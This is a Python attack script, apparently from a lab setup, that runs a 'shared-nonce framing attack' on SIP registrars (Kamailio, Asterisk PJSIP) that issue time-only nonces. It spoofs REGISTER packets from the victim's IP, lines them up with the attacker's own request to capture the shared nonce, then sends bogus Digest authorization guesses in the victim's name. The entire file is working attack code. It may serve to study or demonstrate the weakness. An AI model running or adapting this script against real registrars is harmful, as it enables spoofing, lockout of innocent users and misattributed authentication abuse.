"""The shared-nonce framing attack, run in the client namespace (a script, not a test).

    shared_nonce_attack.py --attacker IP --victim IP --server IP [--guesses N] [--tries N]

A registrar whose nonces hold only the time (Kamailio's stock auth, Asterisk PJSIP) gives every
client challenged in the same second the same nonce. The attacker sends a REGISTER "from" the
victim and one of its own in the same second, reads the nonce (and the opaque) from its own
401, then sends guesses "from" the victim with them. It never reads what goes to the victim's
address: the replies to the spoofed packets are only looked at to report whether the registrar
really handed out one nonce to both. Prints {"nonce", "shared", "guesses"} as JSON.
"""

from __future__ import annotations

import argparse
import json
import re
import socket
import time

NONCE = re.compile(r'nonce="([^"]+)"')
OPAQUE = re.compile(r'opaque="([^"]+)"')


def register(src: str, sport: int, dst: str, call_id: str, cseq: int, auth: str = "") -> bytes:
    lines = [
        f"REGISTER sip:{dst} SIP/2.0",
        f"Via: SIP/2.0/UDP {src}:{sport};branch=z9hG4bK-{call_id}-{cseq}",
        f"From: <sip:1002@{dst}>;tag=t-{call_id}",
        f"To: <sip:1002@{dst}>",
        f"Call-ID: {call_id}",
        f"CSeq: {cseq} REGISTER",
        f"Contact: <sip:1002@{src}:{sport}>",
        "Max-Forwards: 70",
    ]
    if auth:
        lines.append(auth)
    lines.append("Content-Length: 0")
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def challenge(sock: socket.socket) -> tuple[str, str | None] | None:
    try:
        data = sock.recv(65535).decode("utf-8", "replace")
    except OSError:
        return None
    nonce, opaque = NONCE.search(data), OPAQUE.search(data)
    return (nonce.group(1), opaque.group(1) if opaque else None) if nonce else None


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--attacker", required=True)
    ap.add_argument("--victim", required=True)
    ap.add_argument("--server", required=True)
    ap.add_argument("--guesses", type=int, default=8)
    ap.add_argument("--tries", type=int, default=5)
    args = ap.parse_args()
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    own.bind((args.attacker, 5098))
    own.settimeout(2)
    spoof = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    spoof.bind((args.victim, 5097))
    spoof.settimeout(2)
    mine = theirs = None
    for attempt in range(args.tries):
        time.sleep(1.0 - time.time() % 1.0 + 0.05)  # both at the start of one second
        spoof.sendto(register(args.victim, 5097, args.server, f"frame-{attempt}", 1),
                     (args.server, 5060))
        own.sendto(register(args.attacker, 5098, args.server, f"own-{attempt}", 1),
                   (args.server, 5060))
        mine, theirs = challenge(own), challenge(spoof)
        if mine and theirs and mine[0] == theirs[0]:
            break
    if mine is None:
        raise SystemExit("no challenge for the attacker's own REGISTER")
    nonce, opaque = mine
    for i in range(args.guesses):
        auth = (f'Authorization: Digest username="1002", realm="{args.server}", '
                f'nonce="{nonce}", uri="sip:{args.server}", response="{i:032x}", '
                f'algorithm=MD5' + (f', opaque="{opaque}"' if opaque and i % 2 == 0 else ""))
        spoof.sendto(register(args.victim, 5097, args.server, f"guess-{i}", 2, auth),
                     (args.server, 5060))
        time.sleep(0.25)
    print(json.dumps({"nonce": nonce, "shared": bool(theirs and theirs[0] == nonce),
                      "guesses": args.guesses}))


if __name__ == "__main__":
    main()
